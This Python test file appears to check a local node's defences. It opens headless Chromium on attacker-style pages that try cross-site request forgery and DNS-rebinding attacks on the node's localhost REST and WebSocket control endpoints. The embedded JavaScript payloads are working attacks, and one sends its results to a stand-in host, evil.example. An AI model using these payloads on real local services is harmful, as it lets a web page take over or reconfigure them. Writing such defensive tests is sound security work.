"""A real Chromium with hostile pages open, beside a node on the same machine."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
from contextlib import suppress
from functools import partial

import msgspec
import pytest
import trio

from prorl_trio.edges.auth import Door
from support.fake_node import make_spec
from support.fake_rest import open_rest
from support.fake_service import open_service
from support.skips import because

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
BROWSER = next(filter(None, map(shutil.which, BROWSERS)), "")
BROWSER_TIMEOUT_S = 90

pytestmark = [
    pytest.mark.timeout(180),
    pytest.mark.skipif(not BROWSER, reason=because("there is no Chromium", "apt-get install chromium-headless-shell")),
]

CROSS_SITE = """<!doctype html><title>a page</title><body><script>
const tried = {};
const attempt = async (name, work) => { try { tried[name] = await work(); } catch (e) { tried[name] = "" + e.name; } };
const post = (url, options) => fetch(url, {method: "POST", ...options}).then(answer => answer.type);
const socket = (url) => new Promise((done) => {
  const opened = new WebSocket(url);
  opened.onopen = () => done("open");
  opened.onerror = () => done("refused");
});
(async () => {
  for (const host of ["127.0.0.1", "localhost", "evil.example"]) {
    const base = `http://${host}:REST_PORT`, json = JSON.stringify({address: "127.0.0.1:1"});
    await attempt(`${host} start`, () => post(base + "/start", {mode: "no-cors"}));
    await attempt(`${host} clear`, () => post(base + "/clear_llm_server", {mode: "no-cors", credentials: "include"}));
    await attempt(`${host} add`, () => post(base + "/add_llm_server", {mode: "no-cors", body: json}));
    await attempt(`${host} cancel`, () => post(base + "/cancel", {mode: "no-cors", body: '{"job_id": "theirs"}'}));
    await attempt(`${host} preflight`,
      () => post(base + "/add_llm_server", {headers: {"Content-Type": "application/json"}, body: json}));
    await attempt(`${host} read`, () => fetch(base + "/healthz").then(answer => answer.status));
    await attempt(`${host} beacon`, () => navigator.sendBeacon(base + "/clear_llm_server", "x"));
    const form = Object.assign(document.createElement("form"),
      {method: "POST", action: base + "/clear_llm_server", target: host, enctype: "text/plain"});
    document.body.append(Object.assign(document.createElement("iframe"), {name: host}), form);
    form.submit();
    await attempt(`${host} websocket`, () => socket(`ws://${host}:SOCKET_PORT`));
  }
  await new Promise((done) => setTimeout(done, 300));
  await fetch("/told", {method: "POST", body: JSON.stringify(tried)});
})();
</script>"""
SAME_ORIGIN = """<!doctype html><title>a page whose name has been bound to the node</title><script>
(async () => {
  const tried = {}, json = {"Content-Type": "application/json"};
  for (const [name, path, options] of [
    ["read", "/healthz", {}],
    ["start", "/start", {method: "POST"}],
    ["clear", "/clear_llm_server", {method: "POST"}],
    ["add", "/add_llm_server", {method: "POST", headers: json, body: '{"address": "127.0.0.1:1"}'}],
    ["guess", "/v1/status", {headers: {Authorization: "Bearer guess"}}],
  ]) {
    try { tried[name] = (await fetch(path, options)).status; } catch (e) { tried[name] = e.name; }
  }
  await fetch("http://evil.example:SITE_PORT/told", {method: "POST", mode: "no-cors", body: JSON.stringify(tried)});
})();
</script>"""


class Site:
    """The attacker's web site. Its pages tell it what they could do."""

    def __init__(self):
        self.page = ""
        self.told = None
        self.arrived = trio.Event()

    async def serve(self, stream):
        """Answer one request. A browser may open connections that it does not use."""
        async with stream:
            request = b""
            while (b"\r\n\r\n" not in request or _missing(request)) and (chunk := await stream.receive_some(65_536)):
                request += bytes(chunk)
            if request.startswith(b"POST /told"):
                self.told = msgspec.json.decode(request.partition(b"\r\n\r\n")[2])
                self.arrived.set()
            if request:
                page = self.page.encode()
                head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                await stream.send_all(f"{head}Content-Length: {len(page)}\r\n\r\n".encode() + page)


def _missing(request):
    head, _, body = request.partition(b"\r\n\r\n")
    lengths = [line[15:] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
    return bool(lengths) and len(body) < int(lengths[0])


async def listen(nursery, handler):
    """Return the port at which `handler` serves."""
    serve = partial(trio.serve_tcp, handler, 0, host="127.0.0.1")
    (listener,) = await nursery.start(serve)
    return listener.socket.getsockname()[1]


async def browse(site, url, folder):
    """Open a page in a browser until it has told what it could do, and return that. All names are this machine."""
    command = [
        BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", f"--user-data-dir={folder}", "--remote-debugging-port=0",
        "--host-resolver-rules=MAP * 127.0.0.1", url,
    ]  # fmt: skip
    with trio.fail_after(BROWSER_TIMEOUT_S), (folder / "browser.log").open("wb") as log:
        process = await trio.lowlevel.open_process(
            command, env={**os.environ, "HOME": str(folder)}, stdin=subprocess.DEVNULL, stdout=log, stderr=log,
            start_new_session=True,
        )  # fmt: skip
        try:
            await site.arrived.wait()
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            with trio.CancelScope(shield=True):
                await process.wait()
    return site.told


def let_everybody_in(monkeypatch):
    for check in ("refuse_page", "refuse_host"):
        monkeypatch.setattr(Door, check, lambda *_: "")


GUARDED = pytest.mark.parametrize("guarded", [True, False], ids=["node", "a node that lets everybody in"])
"""The second one shows that the page does try."""


@GUARDED
async def test_a_page_of_another_site_changes_nothing(node, tmp_path, monkeypatch, nursery, guarded):
    if not guarded:
        let_everybody_in(monkeypatch)
    await node.backends.add("http://mine")
    async with open_rest(node, prorl_compat=True, prorl_compat_token=False) as rest, open_service(node) as service:
        job = msgspec.to_builtins(make_spec("theirs"))
        assert (await rest.call("POST", "/v1/rollouts?session=prorl", job)).status == 202
        site = Site()
        site.page = CROSS_SITE.replace("REST_PORT", str(rest.port)).replace("SOCKET_PORT", str(service.port))
        port = await listen(nursery, site.serve)
        tried = await browse(site, f"http://evil.example:{port}/", tmp_path)
        assert (list(node.live), node.backends.urls()) == (["theirs"], ("http://mine",))
        started = (await rest.call("GET", "/status", headers={"Authorization": ""})).status == 200
        assert started is not guarded
        for name, result in tried.items():
            if name.endswith("websocket"):
                assert result == ("refused" if guarded else "open"), name
            if name.endswith(("preflight", "read")):
                assert result == "TypeError", "the browser gives the page no answer"
        nursery.cancel_scope.cancel()


@GUARDED
async def test_a_page_whose_name_was_bound_to_this_machine_changes_nothing(
    node, tmp_path, monkeypatch, nursery, guarded
):
    """Behind one address there is the attacker's page first, then the node: to the browser both are one origin."""
    if not guarded:
        let_everybody_in(monkeypatch)
    site = Site()
    async with open_rest(node, prorl_compat=True, prorl_compat_token=False) as rest:

        async def switch(stream):
            first = bytes(await stream.receive_some(65_536))
            if first.startswith((b"GET / ", b"GET /favicon")) or not first:
                await stream.send_all(
                    f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n{site.page}".encode()
                )
                await stream.aclose()
                return
            async with await rest.open_stream() as to_node:
                await to_node.send_all(first)
                with suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                    async with trio.open_nursery() as pumps:
                        pumps.start_soon(pump, stream, to_node)
                        await pump(to_node, stream)
                        pumps.cancel_scope.cancel()

        async def pump(source, sink):
            while chunk := await source.receive_some(65_536):
                await sink.send_all(chunk)

        site.page = SAME_ORIGIN.replace("SITE_PORT", str(await listen(nursery, site.serve)))
        port = await listen(nursery, switch)
        tried = await browse(site, f"http://rebound.example:{port}/", tmp_path)
        started = (await rest.call("GET", "/status", headers={"Authorization": ""})).status == 200
        if guarded:
            assert set(tried.values()) == {403}, tried
        else:
            assert tried == {"read": 200, "start": 200, "clear": 200, "add": 200, "guess": 401}
        assert started is not guarded
        assert node.backends.urls() == (() if guarded else ("http://127.0.0.1:1",))
        nursery.cancel_scope.cancel()
